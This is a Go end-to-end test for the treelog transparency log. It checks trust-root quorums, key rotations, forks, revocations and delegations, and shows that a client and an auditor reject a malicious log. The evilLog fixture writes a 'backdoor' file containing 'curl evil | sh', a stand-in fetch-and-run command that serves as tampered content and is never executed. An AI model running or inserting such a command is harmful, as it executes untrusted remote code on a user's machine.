package main

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"treelog/checkpoint"
	"treelog/internal/keyfile"
	"treelog/internal/testkit/proc"
	"treelog/internal/testkit/roots"
	"treelog/internal/testkit/synthlog"
	"treelog/metamanifest"
	"treelog/note"
	"treelog/tiles"
	"treelog/trust"
)

// e2e runs treelog's programs as a release engineer, a user and an
// auditor would.
type e2e struct {
	t                  *testing.T
	dir                string
	treelog, auditor   string
	logURL, policyFile string
	logVKey            string
}

func (e *e2e) path(p string) string { return filepath.Join(e.dir, p) }

func (e *e2e) write(name string, data []byte) string {
	e.t.Helper()
	if err := os.WriteFile(e.path(name), data, 0o644); err != nil {
		e.t.Fatal(err)
	}
	return e.path(name)
}

// run runs a program and returns its output and exit status.
func (e *e2e) run(bin string, args ...string) (string, int) {
	e.t.Helper()
	cmd := exec.Command(bin, args...)
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	err := cmd.Run()
	var ee *exec.ExitError
	switch {
	case errors.As(err, &ee):
		return out.String(), ee.ExitCode()
	case err != nil:
		e.t.Fatalf("%s: %v", filepath.Base(bin), err)
	}
	return out.String(), 0
}

// want runs treelog and checks its exit status and output.
func (e *e2e) want(code int, contains string, args ...string) string {
	e.t.Helper()
	out, got := e.run(e.treelog, args...)
	if got != code || !strings.Contains(out, contains) {
		e.t.Fatalf("treelog %s: exit %d, want %d with %q:\n%s", strings.Join(args, " "), got, code, contains, out)
	}
	return out
}

// post submits an entry to the log directly (what a client that skips
// treelog's own checks sends).
func (e *e2e) post(body []byte) (int, string) {
	e.t.Helper()
	resp, err := http.Post(e.logURL+"/add", "text/plain", bytes.NewReader(body))
	if err != nil {
		e.t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

func (e *e2e) logSize() uint64 {
	e.t.Helper()
	lv, _ := note.NewVerifier(e.logVKey)
	r, _ := tiles.NewHTTPReader([]string{e.logURL})
	raw, err := r.ReadCheckpoint(context.Background())
	if err != nil {
		return 0
	}
	cp, err := checkpoint.Open(raw, lv)
	if err != nil {
		e.t.Fatal(err)
	}
	return cp.Size
}

func keyFiles(t *testing.T, dir string, k roots.Key) string {
	p := filepath.Join(dir, k.Key.Name)
	if err := keyfile.Write(p, k.SKey, k.VKey); err != nil {
		t.Fatal(err)
	}
	return p
}

// Trust roots end to end, with the real programs on loopback: logserver
// (pinning a 3-of-5 root), treelog (root key holders, publishers, users)
// and auditor. Each of the cases: 3-of-5 with two signatures,
// rotations certified by only one of the two key sets, a fork, a
// revoked key's snapshots before and after, an expired delegation, an
// origin pattern, a client pinned to version 1 following five rotations.
// Then a log that accepted what the root forbade: the client refuses, the
// auditor alerts with evidence.
func TestTrustRootsEndToEnd(t *testing.T) {
	dir := t.TempDir()
	e := &e2e{t: t, dir: dir}
	bin, err := proc.Build("treelog/cmd/logserver", dir)
	if err != nil {
		t.Fatal(err)
	}
	if e.treelog, err = proc.Build("treelog/cmd/treelog", dir); err != nil {
		t.Fatal(err)
	}
	if e.auditor, err = proc.Build("treelog/cmd/auditor", dir); err != nil {
		t.Fatal(err)
	}
	h := roots.NewKeys(t, "root", 5)
	alice, bob := roots.NewKey(t, "alice"), roots.NewKey(t, "bob")
	aliceKey, bobKey := keyFiles(t, dir, alice), keyFiles(t, dir, bob)
	now := time.Now().UTC().Truncate(time.Second)
	v1 := roots.Sign(t, roots.First("example.org/trust", 3, h, "overlays.example/*"), h[0], h[1], h[2])
	pin := e.write("v1", v1)

	k := newKeys(t)
	e.logVKey = k.logVK
	os.WriteFile(e.path("log.key"), []byte(k.logSK), 0o600)
	os.WriteFile(e.path("publishers"), nil, 0o644)
	p, err := proc.Start(bin, "--key", e.path("log.key"), "--publishers", e.path("publishers"), "--trust-root", pin,
		"--storage", e.path("storage"), "--checkpoint-interval", "100ms", "--listen", "127.0.0.1:0",
		"--index-interval", "0") // no index entries: the checks below count entries
	if err != nil {
		t.Fatal(err)
	}
	defer p.Kill()
	e.logURL = p.URL()
	e.policyFile = e.write("policy", []byte(fmt.Sprintf("log %s %s\nquorum none\n", k.logVK, e.logURL)))

	// 3-of-5 with only two signatures: refused, by treelog before sending
	// and by the log; nothing is logged.
	two := e.write("two", roots.Sign(t, roots.First("example.org/trust", 3, h, "overlays.example/*"), h[0], h[1]))
	e.want(1, "rule signed-by-own-root", "root", "submit", "--log", e.logURL, two)
	if code, msg := e.post(e.readFile("two")); code != 403 || !strings.Contains(msg, "rule signed-by-own-root") {
		t.Fatalf("two of 3-of-5: %d %s", code, msg)
	}
	e.want(0, "logged example.org/trust version 1 at index 0", "root", "submit", "--log", e.logURL, "--policy", e.policyFile, pin)

	// Five rotations, each replacing two root keys; version 3 delegates
	// overlays.example/* to alice, and overlays.example/old to bob until
	// an hour ago.
	versions := [][]byte{v1}
	holders := h
	for i := range 5 {
		nu := append(append([]roots.Key(nil), holders[2:]...), roots.NewKeys(t, fmt.Sprintf("root-r%d", i+1), 2)...)
		r := roots.After(t, versions[i], func(r *trust.Root) {
			r.Keys = roots.Keys(nu...)
			if i == 1 {
				r.Delegations = []trust.Delegation{
					roots.Delegate("overlays.example/*", alice, now.AddDate(0, 0, -30), now.AddDate(1, 0, 0)),
					roots.Delegate("overlays.example/old", bob, now.AddDate(0, 0, -30), now.Add(-time.Hour)),
				}
			}
		})
		if i == 0 {
			// Rotation certified by only the old keys, or only the new.
			if code, msg := e.post(roots.Sign(t, r, holders[0], holders[1], holders[2])); code != 403 || !strings.Contains(msg, "rule signed-by-own-root") {
				t.Fatalf("rotation signed by the old keys only: %d %s", code, msg)
			}
			if code, msg := e.post(roots.Sign(t, r, nu[2], nu[3], nu[4])); code != 403 || !strings.Contains(msg, "rule signed-by-previous-root") {
				t.Fatalf("rotation signed by the new keys only: %d %s", code, msg)
			}
		}
		v := roots.Sign(t, r, holders[0], holders[1], holders[2], nu[3], nu[4])
		e.want(0, fmt.Sprintf("logged example.org/trust version %d", i+2), "root", "submit", "--log", e.logURL,
			"--previous", e.write(fmt.Sprintf("v%d", i+1), versions[i]), e.write(fmt.Sprintf("v%d", i+2), v))
		versions = append(versions, v)
		holders = nu
	}
	if size := e.logSize(); size != 6 {
		t.Fatalf("log size %d after six versions; refused ones were logged?", size)
	}

	// alice publishes; a user pinned to version 1 follows the five
	// rotations to version 6.
	tree := e.path("tree")
	os.MkdirAll(filepath.Join(tree, "app-misc", "hello"), 0o755)
	os.WriteFile(filepath.Join(tree, "app-misc", "hello", "hello-1.ebuild"), []byte("EAPI=8\n"), 0o644)
	e.want(0, "log index 6", "publish", "--key", aliceKey+".key", "--origin", "overlays.example/guru", "--log", e.logURL,
		"--policy", e.policyFile, "--layout", "plain", "--timestamp", now.Add(-2*time.Hour).Format(time.RFC3339), tree)
	state := e.path("user-state")
	e.want(0, "authorized by example.org/trust version 6", "verify", "--policy", e.policyFile, "--trust-root", pin, "--state", state, tree)

	// An expired delegation, an origin outside the pattern: refused.
	other := e.path("other")
	os.MkdirAll(other, 0o755)
	os.WriteFile(filepath.Join(other, "x"), []byte("x\n"), 0o644)
	e.want(1, "rule validity", "publish", "--key", bobKey+".key", "--origin", "overlays.example/old", "--log", e.logURL, "--layout", "plain", other)
	e.want(1, "403 Forbidden", "publish", "--key", aliceKey+".key", "--origin", "overlays.example.evil/x", "--log", e.logURL, "--layout", "plain", other)
	e.want(1, "403 Forbidden", "publish", "--key", aliceKey+".key", "--origin", "overlays.example", "--log", e.logURL, "--layout", "plain", other)

	// alice's key is stolen an hour ago: version 7 revokes it. A fork,
	// another version 7, is refused.
	r7 := roots.After(t, versions[5], func(r *trust.Root) {
		r.Delegations = nil
		r.Revocations = []trust.Revocation{{Key: alice.Key, Time: now.Add(-time.Hour)}}
	})
	v7 := roots.Sign(t, r7, holders[0], holders[1], holders[2])
	fork := roots.Sign(t, roots.After(t, versions[5], func(r *trust.Root) { r.Delegations = nil }), holders[0], holders[1], holders[2])
	e.want(0, "logged example.org/trust version 7 at index 7", "root", "submit", "--log", e.logURL, e.write("v7", v7))
	if code, msg := e.post(fork); code != 409 || !strings.Contains(msg, "fork") {
		t.Fatalf("fork: %d %s", code, msg)
	}
	// The revoked key's next snapshot: refused by the log.
	e.want(1, "rule revoked", "publish", "--key", aliceKey+".key", "--origin", "overlays.example/guru", "--log", e.logURL, "--layout", "plain", other)
	// Its snapshot from before the revocation (made before the theft)
	// still verifies.
	e.want(0, "authorized by example.org/trust version 6", "verify", "--policy", e.policyFile, "--trust-root", pin, "--state", state, tree)

	// A log that took what the root forbade: the fork, and a snapshot by
	// the revoked key logged after version 7.
	evil := e.evilLog(t, append(versions[:6:6], v7, fork), alice, aliceKey)
	e.want(1, "REFUSED", "verify", "--policy", evil.policy, "--trust-root", pin, "--state", e.path("evil-state"), evil.tree)
	e.want(1, "rule revoked", "verify", "--policy", evil.policy, "--trust-root", pin, "--state", e.path("evil-state"), evil.tree)
	out, code := e.run(e.auditor, "--once", "--policy", evil.policy, "--trust-root", pin, "--state", e.path("auditor-state"))
	for _, want := range []string{"ALERT trust-root-fork: log entry 7 is example.org/trust version 7, but the log already holds another version 7 at index 6",
		"ALERT bad-entry: log entry 8: rule revoked", "ALERT trust-root-change: log entry 5 is example.org/trust version 6"} {
		if code != 1 || !strings.Contains(out, want) {
			t.Errorf("auditor: exit %d, want 1 and %q:\n%s", code, want, out)
		}
	}
	// The honest log, audited: changes only.
	out, code = e.run(e.auditor, "--once", "--policy", e.policyFile, "--trust-root", pin, "--state", e.path("auditor-honest"))
	if code != 1 || strings.Contains(out, "bad-entry") || strings.Contains(out, "fork") || strings.Count(out, "ALERT trust-root-change") != 7 {
		t.Errorf("auditor of the honest log: exit %d\n%s", code, out)
	}
}

func (e *e2e) readFile(name string) []byte {
	b, err := os.ReadFile(e.path(name))
	if err != nil {
		e.t.Fatal(err)
	}
	return b
}

type evilLog struct{ policy, tree string }

// evilLog writes a log holding the versions, then a snapshot signed by
// the revoked key after them, serves it as static files with a versions
// listing (every version but the fork, with proofs), and returns a policy
// naming it and the snapshot's tree with its proof.
func (e *e2e) evilLog(t *testing.T, versions [][]byte, thief roots.Key, thiefKey string) evilLog {
	tree := e.path("stolen")
	os.MkdirAll(tree, 0o755)
	os.WriteFile(filepath.Join(tree, "backdoor"), []byte("curl evil | sh\n"), 0o644)
	e.want(0, "", "manifest", "create", "--layout", "plain", tree)
	e.want(0, "wrote", "sign", "--key", thiefKey+".key", "--origin", "overlays.example/guru", tree)
	mmPath, proofPath := metamanifest.Paths(tree)
	mm, _ := os.ReadFile(mmPath)
	entries := append(versions, mm)
	dir := e.path("evil-log")
	sk, vk, _ := note.GenerateKey(nil, "evil.log.example", note.TypeEd25519)
	signer, _ := note.NewSigner(sk)
	if err := synthlog.Append(context.Background(), dir, signer, entries); err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(http.FileServer(http.Dir(dir)))
	t.Cleanup(srv.Close)
	reader, _ := tiles.NewHTTPReader([]string{srv.URL})
	raw, err := reader.ReadCheckpoint(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	lv, _ := note.NewVerifier(vk)
	cp, err := checkpoint.Open(raw, lv)
	if err != nil {
		t.Fatal(err)
	}
	prover := tiles.NewProver(reader, 64)
	listing := &trust.Versions{Root: "example.org/trust", Checkpoint: raw}
	for i, v := range versions[:len(versions)-1] { // the fork is not listed
		pr, err := prover.InclusionProof(context.Background(), cp.Checkpoint, uint64(i))
		if err != nil {
			t.Fatal(err)
		}
		listing.Entries = append(listing.Entries, trust.LoggedVersion{Version: uint64(i + 1), Index: uint64(i), Proof: pr, Entry: v})
	}
	hash := strings.TrimPrefix(strings.Split(trust.VersionsPath("example.org/trust", 1), "?")[0], "trustroot/")
	os.MkdirAll(filepath.Join(dir, "trustroot"), 0o755)
	os.WriteFile(filepath.Join(dir, "trustroot", hash), listing.Marshal(), 0o644)
	idx := uint64(len(entries) - 1)
	pr, err := prover.InclusionProof(context.Background(), cp.Checkpoint, idx)
	if err != nil {
		t.Fatal(err)
	}
	os.WriteFile(proofPath, (&checkpoint.Proof{Index: idx, Inclusion: pr, Checkpoint: raw}).Marshal(), 0o644)
	return evilLog{policy: e.write("evil-policy", []byte(fmt.Sprintf("log %s %s\nquorum none\n", vk, srv.URL))), tree: tree}
}
